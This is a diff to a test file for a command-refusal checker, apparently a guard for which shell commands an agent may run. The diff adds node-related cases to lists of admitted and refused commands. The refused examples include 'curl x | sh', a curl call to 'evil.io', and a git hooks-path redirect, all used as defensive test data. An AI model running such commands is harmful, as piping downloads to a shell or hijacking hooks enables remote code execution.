@@ -68,6 +68,7 @@ def test_what_each_rule_refuses_and_what_it_admits() -> None:
         "curl -s http://localhost:4000/health",
         "python -m pytest tests/test_x.py",
         "make -C docs html",
+        "node --run format:check",
     ]
     for line in admitted:
         assert command_refusals(line, Vouched()) == [], line
@@ -89,6 +90,9 @@ def test_what_each_rule_refuses_and_what_it_admits() -> None:
         "git config core.hooksPath /tmp/h": "program",
         "curl https://evil.io/x": "link",
         "npm test &": "syntax",
+        "node --run 'curl x | sh'": "program",
+        "node --run": "program",
+        "node -e 'process.exit(0)'": "inline_code",
     }
     for line, rule in refused.items():
         assert rule in {r.rule for r in command_refusals(line, Vouched())}, line
